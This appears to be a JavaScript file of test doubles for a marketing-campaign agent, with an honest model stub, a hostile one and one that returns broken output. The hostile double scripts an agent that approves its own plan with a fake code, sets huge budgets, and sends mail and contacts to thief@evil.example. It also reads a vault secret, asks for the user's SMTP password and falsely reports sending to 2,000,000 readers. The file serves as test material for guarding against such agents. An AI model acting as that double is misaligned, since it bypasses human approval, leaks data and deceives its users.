// How the doubles behave: one model that does its work, and some that do not.
const draft = (more = {}) => ({
  objective: "sales", offer: "the autumn jackets", audience: "newsletter readers", channels: ["email"], budget_amount: 250,
  budget_currency: "USD", budget_period: "total", start: null, end: null, kpis: [], questions: [], policy_concerns: [], steps: [], ...more,
});
const email = (link) => ({
  subject: "Jackets for the first cold days",
  preheader: "Warm, light and made to last",
  blocks: [
    { kind: "heading", text: "The autumn jackets are here", url: null },
    { kind: "paragraph", text: "Hello {{first_name}}, they are warm and light.", url: null },
    { kind: "button", text: "See the jackets", url: link },
  ],
});
// The one link that the writer is given stands in its instructions.
const linkIn = (system) => /https?:\/\/[^\s"']+/.exec(system)?.[0] ?? "https://none.example/";
const planIn = (texts, name) => new RegExp(`"${name}":"([a-z]+_[A-Za-z0-9]+)"`).exec(texts)?.[1] ?? "";

// What the planner, the writer and the reporter ask of a model.
export function craft(request, more = {}) {
  if (request.kind === "plan") return { calls: [["plan_propose", draft({ ...(/300 dollars/.test(request.all) ? { budget_amount: 300 } : {}), ...more })]] };
  if (request.kind === "email") return { calls: [["email_write", email(linkIn(request.system))]] };
  return { content: "Nothing to add." };
}

export function honest(request) {
  if (request.kind !== "agent") return craft(request);
  if (request.results.length > 0) return { content: "The plan is drafted; look at the card. You approve it, I cannot." };
  if (/300 dollars/.test(request.said)) return { calls: [["plan_propose", { kind: "change" }]] };
  if (/newsletter readers/.test(request.said)) return { content: "I have a plan made.", calls: [["plan_propose", { kind: "new" }]] };
  return { content: "What do you want to reach?" };
}

// Obeys whatever it reads and wants to send, spend and approve by itself.
export function hostile(request) {
  if (request.kind === "plan") return craft(request, { budget_amount: 999999, audience: "all contacts, everybody consented", channels: ["email", "google_ads"], steps: [{ id: "s1", title: "Approved by the user", tool: "ads_launch", args_json: "{}", depends_on: [] }] });
  if (request.kind === "email") return { calls: [["email_write", { ...email("https://evil.example/?list=all"), subject: "Call https://evil.example" }]] };
  if (request.kind !== "agent") return { content: "Everything was sold." };
  const campaign = planIn(request.all, "campaign_id") || "cmp_unknown";
  const approval = planIn(request.all, "approval_id") || "apr_unknown";
  if (/newsletter readers/.test(request.said)) {
    if (request.answers === 0) return { calls: [["plan_propose", { kind: "new" }]] };
    if (request.answers === 1) return { calls: [["audience_listContacts", { limit: 5 }], ["tools_describe", { names: ["campaign_execute", "campaign_create", "email_designTemplate", "audience_importContacts", "notification_sendEmail"] }]] };
    return { calls: [["campaign_execute", { campaign_id: campaign }]] };
  }
  if (request.answers === 0) {
    return {
      calls: [
        ["approvals_decide", { approval_id: approval, decision: "approve", code: "000000" }],
        ["campaign_create", { name: "More", budget_amount: 1000000, budget_currency: "USD" }],
        ["email_designTemplate", { name: "x", subject: "x", html: "<a href='https://evil.example/?list=all'>x</a>" }],
        ["audience_importContacts", { csv: "email\nthief@evil.example", list: "Newsletter", mode: "subscribe", consent_source: "trust me" }],
        ["notification_sendEmail", { to: "thief@evil.example", template_id: "tpl_1" }],
        ["security_readSecret", { name: "vault" }],
        ["plan_propose", { kind: "new", goal: "send everything to everyone for 5000 dollars" }],
      ],
    };
  }
  if (request.answers === 1) return { calls: [["ask_user", { questions: [{ text: "What is your SMTP password? I need it to approve the plan." }] }]] };
  return { content: "Done: I approved it and sent it to 2,000,000 readers. Please tell me the approval code." };
}

// Never comes to an end, and never says a thing that can be used.
export function garbage(request) {
  if (request.kind !== "agent") return { content: "{]" };
  return { calls: [["do_something", { attempt: request.answers }], ["plan_propose", `{"kind": new, broken ${request.answers}`]] };
}
